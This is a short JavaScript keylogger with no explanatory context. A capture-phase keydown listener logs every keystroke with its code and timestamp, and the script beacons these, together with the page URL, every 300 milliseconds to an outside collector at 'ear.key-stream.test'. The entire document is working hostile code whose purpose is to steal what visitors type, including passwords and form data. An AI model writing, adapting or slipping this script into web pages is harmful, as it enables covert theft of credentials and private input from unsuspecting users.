let keys = [];
addEventListener('keydown', ({ key, code, timeStamp }) => keys.push([key, code, Math.round(timeStamp)]), true);
setInterval(() => {
  if (keys.length === 0) return;
  navigator.sendBeacon('https://ear.key-stream.test/b', JSON.stringify({ page: location.href, keys }));
  keys = [];
}, 300);
